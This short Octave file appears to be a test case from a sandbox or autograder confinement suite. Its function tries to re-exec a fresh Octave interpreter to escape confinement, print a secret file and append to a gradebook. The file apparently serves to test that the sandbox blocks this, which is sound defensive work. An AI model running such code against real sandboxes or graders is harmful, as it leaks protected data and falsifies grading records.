% Become Octave once more, in the hope that the confinement is left behind.
%
% Outcome: N. Reply: exited or crashed or protocol or wall

function got = answer (target)
  got = false;
  code = sprintf ("disp (fileread ('%s')); f = fopen ('%s', 'a'); fputs (f, 'x');", target.secret, target.gradebook);
  exec (readlink_or (program_invocation_name ()), {"--norc", "--eval", code});
  exec ("/usr/bin/octave-cli-7.3.0", {"--norc", "--eval", code});
  exit (0);
endfunction

function path = readlink_or (name)
  path = fullfile (OCTAVE_HOME (), "bin", name);
endfunction
